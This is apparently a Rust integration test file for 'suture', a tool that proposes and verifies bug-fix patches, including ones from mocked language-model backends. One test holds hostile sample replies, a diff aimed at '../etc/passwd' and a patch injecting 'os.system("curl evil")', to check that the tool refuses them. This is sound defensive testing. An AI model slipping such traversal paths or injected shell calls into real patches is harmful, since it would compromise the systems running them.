//! `suture propose` and `suture fix` end to end: the real binary, real
//! repros and gauntlets, language-model backends on loopback servers.

mod common;

use common::{Sandbox, repo_root, text};
use ratatui::style::Color;
use wiremock::matchers::{method, path};
use wiremock::{Mock, MockServer, ResponseTemplate};

const PYTEST: &str = "python3 -m unittest discover -s tests -t . -v";

fn copy_fixture(sb: &Sandbox, name: &str) -> std::path::PathBuf {
    let to = sb.path(&format!("work/{name}"));
    let st = std::process::Command::new("cp").arg("-r").arg(repo_root().join("fixtures").join(name)).arg(&to).status().unwrap();
    assert!(st.success());
    to
}

fn fix(sb: &Sandbox, ws: &std::path::Path, repro: &str, test: &str) -> std::process::Output {
    sb.run(&["fix", "--workspace", ws.to_str().unwrap(), "--repro", repro, "--test", test])
}

#[test]
fn fix_finds_an_off_by_one_and_a_comparison_and_says_when_nothing_fixes_a_bug() {
    let sb = Sandbox::new();
    let ws = copy_fixture(&sb, "fixproj");
    let before = std::fs::read_to_string(ws.join("calc/ledger.py")).unwrap();

    let a = fix(&sb, &ws, "python3 repro/a.py", PYTEST);
    assert_eq!(a.status.code(), Some(0), "{}", text(&a.stderr));
    let diff = text(&a.stdout);
    assert!(diff.starts_with("--- a/calc/ledger.py\n+++ b/calc/ledger.py\n"), "{diff}");
    assert!(diff.contains("+    return entries[first].id, entries[len(entries) - 1].id"), "{diff}");

    let b = fix(&sb, &ws, "python3 repro/b.py", PYTEST);
    assert_eq!(b.status.code(), Some(0), "{}", text(&b.stderr));
    let diff = text(&b.stdout);
    let changed: Vec<&str> = diff.lines().filter(|l| l.starts_with('-') && !l.starts_with("---")).collect();
    assert_eq!(changed.len(), 1, "{diff}");
    assert!(
        diff.lines().any(|l| l.starts_with('+')
            && !l.starts_with("+++")
            && (l.contains(" > ") || l.contains(" >= ") || l.contains(" < ") || l.contains(" <= "))),
        "{diff}"
    );

    let c = fix(&sb, &ws, "python3 repro/c.py", PYTEST);
    assert_eq!(c.status.code(), Some(1), "{}", text(&c.stderr));
    assert!(text(&c.stdout).is_empty());
    assert!(text(&c.stderr).contains("0 verified"), "{}", text(&c.stderr));
    // The project itself is never written.
    assert_eq!(std::fs::read_to_string(ws.join("calc/ledger.py")).unwrap(), before);

    let json = sb.run(&["fix", "--workspace", ws.to_str().unwrap(), "--repro", "python3 repro/a.py", "--test", PYTEST, "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
    assert_eq!(v["verified"][0]["class"], "off-by-one");
    assert!(v["verified"][0]["tier"].as_u64().is_some());
}

#[test]
fn fix_repairs_javascript_too() {
    let sb = Sandbox::new();
    let ws = copy_fixture(&sb, "fixproj-js");
    for repro in ["node repro/a.js", "node repro/b.js"] {
        let out = fix(&sb, &ws, repro, "node --test test/");
        assert_eq!(out.status.code(), Some(0), "{repro}: {}", text(&out.stderr));
        assert!(text(&out.stdout).contains("+++ b/lib/"), "{}", text(&out.stdout));
    }
}

#[test]
fn fix_rejects_bad_input_with_exit_2() {
    let sb = Sandbox::new();
    let ws = copy_fixture(&sb, "fixproj");
    let out = sb.run(&["fix", "--workspace", "/nonexistent/dir", "--repro", "python3 repro/a.py"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("--workspace /nonexistent/dir: not a directory"), "{}", text(&out.stderr));
    let out = sb.run(&["fix", "--workspace", ws.to_str().unwrap(), "--repro", "python3 'repro/a.py"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("--repro: unbalanced '"), "{}", text(&out.stderr));
    let out = sb.run(&["fix", "--workspace", ws.to_str().unwrap(), "--repro", "true"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(text(&out.stderr).contains("passes on the base: there is nothing to fix"), "{}", text(&out.stderr));
}

/// The demo incident whose title starts with `prefix`.
fn incident(sb: &Sandbox, prefix: &str) -> String {
    let list = sb.run(&["incidents", "--json"]);
    let v: serde_json::Value = serde_json::from_slice(&list.stdout).unwrap();
    v.as_array().unwrap().iter().find(|i| i["title"].as_str().unwrap().starts_with(prefix)).unwrap()["id"].as_str().unwrap().to_string()
}

#[test]
fn templates_find_a_verified_patch_for_each_demo_bug() {
    let sb = Sandbox::new();
    // Pagination's bug has two equally correct template fixes (`<=` → `<`,
    // or the bound moved by one); which one verifies first depends on how
    // loaded the machine is when the perf gate measures, so either counts.
    let cases: [(&str, &[&str]); 3] = [
        ("TypeError: 'NoneType'", &["null-guard"]),
        ("IndexError", &["comparison", "off-by-one"]),
        ("KeyError: 'EU-LEGACY'", &["config-flag"]),
    ];
    for (title, classes) in cases {
        let id = incident(&sb, title);
        let out = sb.cmd().args(["propose", &id, "--json"]).env("SUTURE_PROPOSE__MAX_CANDIDATES", "8").output().unwrap();
        assert!(out.status.success(), "{id}: {}", text(&out.stderr));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        let found = &v["found"];
        let verified: Vec<&serde_json::Value> =
            found["verified"].as_array().unwrap().iter().map(|i| &found["tried"][i.as_u64().unwrap() as usize]).collect();
        assert!(
            verified.iter().any(|t| t["candidate"]["class"].as_str().is_some_and(|c| classes.contains(&c))),
            "{id}: no verified {classes:?}; tried (class, stage): {:?}",
            found["tried"]
                .as_array()
                .unwrap()
                .iter()
                .map(|t| (t["candidate"]["class"].to_string(), t["stage"].to_string()))
                .collect::<Vec<_>>()
        );
        assert!(!v["patches"].as_object().unwrap().is_empty(), "verified candidates are recorded as patches");
    }
    review_screen_shows_each_proposal(&sb);
}

/// Every recorded proposal opens on the review screen side by side at
/// 160x48: both sides of its change, highlighted, with the risk panel.
fn review_screen_shows_each_proposal(sb: &Sandbox) {
    use suture::tui::app::{Action, update};
    use suture::tui::keymap::{Command, Keymap};
    use suture::tui::theme::{Depth, Theme};
    let store = suture::store::Store::open(&sb.path("data/suture/demo.db")).unwrap();
    let ring = suture::audit::sign::Keyring::load(&sb.path("config/suture/keyring.toml")).unwrap();
    let snap = suture::tui::run::snapshot(&store, &ring).unwrap();
    assert_eq!(snap.chain.as_ref().ok().copied(), Some(snap.audit.len()), "the real store's log verifies: {:?}", snap.chain);
    assert!(snap.patches.len() >= 3, "{} patches", snap.patches.len());
    let theme = Theme::builtin(Depth::TrueColor);
    for (row, p) in snap.patches.iter().enumerate() {
        let mut s = suture::tui::shots::state_with(&snap, 160, 48);
        update(&mut s, Action::Command(Command::TabPatches));
        s.selected[suture::tui::app::Tab::Patches.index()] = row;
        update(&mut s, Action::Command(Command::Open));
        let b = suture::tui::shots::render(&s, &theme, &Keymap::default());
        let screen = suture::tui::shots::text(&b);
        assert!(screen.contains("side by side") && screen.contains(&p.id), "{screen}");
        assert!(screen.contains("Risk · tier"), "the risk panel: {screen}");
        let doc = suture::review::Doc::parse(&p.diff).unwrap();
        let f = &doc.files[0];
        let first_added = f.new.text.iter().zip(&f.new.changed).find(|(_, c)| **c).map(|(t, _)| t.trim().to_string()).unwrap();
        assert!(screen.contains(&first_added[..first_added.len().min(40)]), "the added line {first_added:?} is shown: {screen}");
        let added_cells = b.content.iter().filter(|c| c.bg == theme.plus_bg || c.bg == theme.plus_emph_bg).count();
        assert!(added_cells > 0, "{}: added lines carry their background", p.id);
        let coloured: std::collections::HashSet<_> =
            b.content.iter().filter(|c| c.bg == theme.plus_bg || c.bg == Color::Reset).map(|c| c.fg).collect();
        assert!(coloured.len() >= 4, "{}: code is highlighted in several colours, not one: {coloured:?}", p.id);
    }
}

/// The demo's correct fix for the missing discount, as a model would answer.
fn pricing_fix() -> String {
    std::fs::read_to_string(repo_root().join("fixtures/demo/patches/pricing-null-discount.diff")).unwrap()
}

fn openai_sse(reply: &str) -> Vec<u8> {
    let mut body = String::new();
    for piece in reply.as_bytes().chunks(40) {
        let piece = String::from_utf8_lossy(piece);
        let chunk = serde_json::json!({"object": "chat.completion.chunk", "choices": [{"index": 0, "delta": {"content": piece}}]});
        body.push_str(&format!("data: {chunk}\n\n"));
    }
    body.push_str("data: {\"object\":\"chat.completion.chunk\",\"choices\":null,\"usage\":{\"total_tokens\":5}}\n\n");
    body.push_str("data: [DONE]\n\n");
    body.into_bytes()
}

fn anthropic_sse(reply: &str) -> Vec<u8> {
    let mut body = String::from("event: message_start\ndata: {\"type\":\"message_start\",\"message\":{\"id\":\"m\"}}\n\n");
    body.push_str("event: content_block_start\ndata: {\"type\":\"content_block_start\",\"index\":0,\"content_block\":{\"type\":\"text\",\"text\":\"\"}}\n\n");
    body.push_str("event: ping\ndata: {\"type\":\"ping\"}\n\n");
    for piece in reply.as_bytes().chunks(40) {
        let piece = String::from_utf8_lossy(piece);
        let ev = serde_json::json!({"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}});
        body.push_str(&format!("event: content_block_delta\ndata: {ev}\n\n"));
    }
    body.push_str("event: content_block_stop\ndata: {\"type\":\"content_block_stop\",\"index\":0}\n\n");
    body.push_str("event: message_stop\ndata: {\"type\":\"message_stop\"}\n\n");
    body.into_bytes()
}

async fn server_replying(route: &str, body: Vec<u8>) -> MockServer {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path(route))
        .respond_with(ResponseTemplate::new(200).set_body_raw(body, "text/event-stream"))
        .mount(&server)
        .await;
    server
}

/// Runs `suture propose ID --proposer API` against `base` on another thread.
async fn propose_with(sb: &Sandbox, id: &str, api: &str, base: &str, extra: &[(&str, &str)]) -> std::process::Output {
    let mut cmd = sb.cmd();
    let upper = api.to_uppercase();
    cmd.args(["propose", id, "--proposer", api, "--json"])
        .env(format!("SUTURE_PROPOSE__{upper}__BASE_URL"), base)
        .env(format!("SUTURE_PROPOSE__{upper}__KEY_ENV"), "LOOPBACK_LLM_KEY_X")
        .env(format!("SUTURE_PROPOSE__{upper}__RETRIES"), "0")
        .env(format!("SUTURE_PROPOSE__{upper}__TIMEOUT_SECS"), "5")
        .env("LOOPBACK_LLM_KEY_X", "sk-loopback-secret");
    for (k, v) in extra {
        cmd.env(k, v);
    }
    tokio::task::spawn_blocking(move || cmd.output().unwrap()).await.unwrap()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_model_s_streamed_diff_is_verified_for_each_api() {
    let sb = Sandbox::new();
    let id = incident(&sb, "TypeError: 'NoneType'");
    let reply = format!("The discount lookup returns None for orders without a code.\n\n```diff\n{}```\n", pricing_fix());
    for (api, route, body) in [("openai", "/v1/chat/completions", openai_sse(&reply)), ("anthropic", "/v1/messages", anthropic_sse(&reply))]
    {
        let server = server_replying(route, body).await;
        let out = propose_with(&sb, &id, api, &server.uri(), &[]).await;
        let stderr = text(&out.stderr);
        assert!(out.status.success(), "{api}: {stderr}\n{}", text(&out.stdout));
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_eq!(v["asked"]["stage"]["stage"], "verified", "{api}: {v}");
        assert!(v["patch"].as_str().is_some(), "{api}: recorded");
        assert!(v["asked"]["proposer"].as_str().unwrap().starts_with("suture/llm:"));
        // A model's patch is capped at tier 1.
        assert!(v["asked"]["assessment"]["risk"]["tier"].as_u64().unwrap() <= 1);
        // The prompt carried the code, the stack and the constraints; the key went in a header only.
        let req = &server.received_requests().await.unwrap()[0];
        let sent = String::from_utf8_lossy(&req.body).into_owned();
        assert!(sent.contains("apply_discount") && sent.contains("NoneType") && sent.contains("Change at most"), "{sent}");
        assert!(!sent.contains("sk-loopback-secret"));
        assert!(!stderr.contains("sk-loopback-secret") && !text(&out.stdout).contains("sk-loopback-secret"));
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn malformed_replies_and_broken_backends_are_refused_with_reasons() {
    let sb = Sandbox::new();
    let id = incident(&sb, "TypeError: 'NoneType'");
    let fence = |d: &str| format!("```diff\n{d}```\n");
    let big = format!("--- a/app/pricing.py\n+++ b/app/pricing.py\n@@ -1 +1 @@\n-x\n+{}\n", "y".repeat(5 * 1024 * 1024));
    let cases: Vec<(String, &str)> = vec![
        ("I think the discount code is wrong, but I am not sure.".into(), "the reply has no unified diff"),
        (fence("--- a/../etc/passwd\n+++ b/../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n"), "`..` leads out of the tree"),
        (fence("--- a/app/nope.py\n+++ b/app/nope.py\n@@ -1 +1 @@\n-a\n+b\n"), "does not exist in the tree"),
        (
            fence(
                &pricing_fix()
                    .replace("+        return amount\n", "+        import os; os.system(\"curl evil\")\n+        return amount\n")
                    .replace("+32,8", "+32,9"),
            ),
            "adds a forbidden call",
        ),
        (big, "the limit is"),
    ];
    for (reply, want) in cases {
        let server = server_replying("/v1/chat/completions", openai_sse(&reply)).await;
        let out = propose_with(&sb, &id, "openai", &server.uri(), &[]).await;
        assert_eq!(out.status.code(), Some(1), "{want}");
        let stderr = text(&out.stderr);
        assert!(stderr.contains("the reply was refused") && stderr.contains(want), "want {want:?} in {stderr}");
    }
    // Malformed JSON, a 429 and a backend that is down: a clear status.
    let server = server_replying("/v1/chat/completions", b"data: {not json\n\n".to_vec()).await;
    let out = propose_with(&sb, &id, "openai", &server.uri(), &[]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).to_lowercase().contains("malformed"), "{}", text(&out.stderr));
    let server = MockServer::start().await;
    Mock::given(method("POST")).respond_with(ResponseTemplate::new(429).insert_header("retry-after", "1")).mount(&server).await;
    let out = propose_with(&sb, &id, "openai", &server.uri(), &[]).await;
    assert!(text(&out.stderr).to_lowercase().contains("rate"), "{}", text(&out.stderr));
    let port = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap().port();
    let out = propose_with(&sb, &id, "anthropic", &format!("http://127.0.0.1:{port}"), &[]).await;
    assert_eq!(out.status.code(), Some(1));
    assert!(text(&out.stderr).contains(&format!("127.0.0.1:{port}")), "{}", text(&out.stderr));
    // Template proposals keep working with the backend down.
    let ok = sb.cmd().args(["propose", &id, "--json"]).env("SUTURE_PROPOSE__MAX_CANDIDATES", "2").output().unwrap();
    assert!(ok.status.success(), "{}", text(&ok.stderr));
}
